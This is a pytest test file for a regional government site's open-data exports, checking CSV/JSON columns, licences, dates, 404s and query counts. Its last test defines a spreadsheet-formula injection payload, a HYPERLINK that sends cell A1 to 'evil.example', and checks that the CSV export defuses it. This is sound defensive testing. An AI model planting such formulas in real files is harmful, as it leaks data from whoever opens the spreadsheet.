"""Open data: a visitor finds the data sets, reads their passports and downloads them."""

import csv
import datetime
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from events.models import EventEdition, EventSeriesPage
from projects.models import ProjectPage

pytestmark = pytest.mark.django_db


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return response


def test_the_footer_leads_to_the_open_data_list(client, content):
    for home, index in (("/", "/open-data/"), ("/en/", "/en/open-data/")):
        assert f'href="{index}"' in client.get(home).content.decode()
    html = client.get("/en/open-data/").content.decode()
    assert 'href="/en/open-data/projects/"' in html
    assert 'href="/en/open-data/events/data.csv"' in html
    assert "Creative Commons Attribution 4.0 International (CC BY 4.0)" in html


@pytest.mark.parametrize("language", ["ru", "en"])
def test_the_projects_csv_has_stable_columns_and_values_in_the_language(client, content, language):
    prefix = "" if language == "ru" else "/en"
    response = download(client, f"{prefix}/open-data/projects/data.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="projects-{language}.csv"' in response["Content-Disposition"]
    body = response.content
    assert not body.startswith(b"\xef\xbb\xbf")  # no byte order mark
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    assert list(rows[0]) == [
        "id",
        "title",
        "summary",
        "countries",
        "spheres",
        "year",
        "location",
        "url",
        "last_published_at",
    ]
    assert len(rows) == ProjectPage.objects.live().count()
    titles = {row["title"] for row in rows}
    if language == "en":
        assert "Iran’s Trading House" in " ".join(titles)
        assert all(row["url"].startswith("http://testserver/en/") for row in rows)
    else:
        assert any("Иран" in title for title in titles)
        assert not any(row["url"].startswith("http://testserver/en/") for row in rows)


def test_the_events_json_lists_the_editions_in_english(client, content):
    series = EventSeriesPage.objects.live().first()
    EventEdition.objects.create(
        series=series,
        start_date=datetime.date(2026, 9, 1),
        end_date=datetime.date(2026, 9, 3),
        venue="Астрахань",
        venue_ru="Астрахань",
        venue_en="Astrakhan",
    )
    response = download(client, "/en/open-data/events/data.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    document = json.loads(response.content)
    assert document["language"] == "en"
    assert document["license"] == "https://creativecommons.org/licenses/by/4.0/deed.en"
    assert document["publisher"] == "Government of Astrakhan Region"
    (row,) = document["rows"]
    assert row["event"] == series.title_en
    assert (row["start_date"], row["end_date"], row["venue"]) == ("2026-09-01", "2026-09-03", "Astrakhan")
    assert document["columns"] == list(row)

    russian = json.loads(download(client, "/open-data/events/data.json").content)
    assert russian["publisher"] == "Правительство Астраханской области"
    assert russian["rows"][0]["venue"] == "Астрахань"


def passport_time(value):
    """How the passport writes a moment in its <time datetime> attribute: whole seconds, as HTML
    allows at most three digits of a fraction."""
    from django.template.defaultfilters import date
    from django.utils import timezone

    return date(timezone.localtime(value), r"Y-m-d\TH:i:sO")


def test_the_passport_names_body_format_date_and_licence(client, content):
    html = client.get("/en/open-data/projects/").content.decode()
    for text in [
        "Joint projects of Astrakhan Region and its partner countries",
        "Government of Astrakhan Region",
        'href="/en/open-data/projects/data.csv"',
        'href="/en/open-data/projects/data.json"',
        "Creative Commons Attribution 4.0 International (CC BY 4.0)",
        "<code>last_published_at</code>",
    ]:
        assert text in html, text
    ru = client.get("/open-data/events/").content.decode()
    assert "Правительство Астраханской области" in ru
    assert "Дата последнего внесения изменений" in ru


def test_the_date_of_last_change_is_the_newest_publication(client, content):
    page = ProjectPage.objects.live().order_by("path").last()
    page.title_en = "Renamed project"
    page.save_revision().publish()
    page.refresh_from_db()
    assert page.last_published_at == max(p.last_published_at for p in ProjectPage.objects.live())

    html = client.get("/en/open-data/projects/").content.decode()
    assert f'<time datetime="{passport_time(page.last_published_at)}">' in html
    csv_text = download(client, "/en/open-data/projects/data.csv").content.decode()
    renamed = [row for row in csv.DictReader(io.StringIO(csv_text)) if row["title"] == "Renamed project"]
    assert [row["id"] for row in renamed] == [str(page.pk)]


@pytest.mark.parametrize(
    "url",
    [
        "/open-data/nothing/",
        "/en/open-data/nothing/data.csv",
        "/open-data/projects/data.xml",
        "/open-data/projects/data.",
        "/en/open-data/events/data.CSV",
    ],
)
def test_unknown_data_sets_and_formats_are_not_found(client, content, url):
    assert client.get(url).status_code == 404


@pytest.mark.parametrize(
    "url", ["/en/open-data/projects/data.csv", "/open-data/events/data.json", "/open-data/projects/"]
)
def test_the_number_of_queries_does_not_grow_with_the_rows(client, content, url):
    series = EventSeriesPage.objects.live().first()
    edition = {
        "start_date": datetime.date(2026, 5, 1),
        "end_date": datetime.date(2026, 5, 2),
        "venue": "Астрахань",
    }
    EventEdition.objects.create(series=series, **edition)
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for _ in range(4):
        EventEdition.objects.create(series=series, **edition)
    project = ProjectPage.objects.live().first()
    for n in range(3):
        copy = project.copy(
            update_attrs={"slug": f"kopiya-{n}", "slug_ru": f"kopiya-{n}", "slug_en": f"copy-{n}"}
        )
        copy.save_revision().publish()
    with CaptureQueriesContext(connection) as many:
        client.get(url)
    assert len(many) == len(few), [q["sql"][:150] for q in many.captured_queries]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'


@pytest.mark.parametrize("prefix", ["", "/en"])
def test_a_title_a_spreadsheet_would_run_is_inert_in_the_csv_and_true_in_the_json(client, content, prefix):
    """An editor (or an attacker with an editor's account) titles a project as a
    formula: the CSV a journalist opens shows it as text, the JSON keeps it."""
    project = ProjectPage.objects.live().order_by("path").first()
    project.title_ru = FORMULA
    project.title_en = FORMULA
    project.summary_en = "-1+1"
    project.location_en = "@SUM(A1:A9)"
    project.save()

    rows = list(
        csv.DictReader(
            io.StringIO(download(client, f"{prefix}/open-data/projects/data.csv").content.decode())
        )
    )
    row = next(r for r in rows if r["id"] == str(project.pk))
    assert row["title"] == "'" + FORMULA
    for cells in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells.values())

    document = json.loads(download(client, f"{prefix}/open-data/projects/data.json").content)
    item = next(r for r in document["rows"] if r["id"] == project.pk)
    assert item["title"] == FORMULA
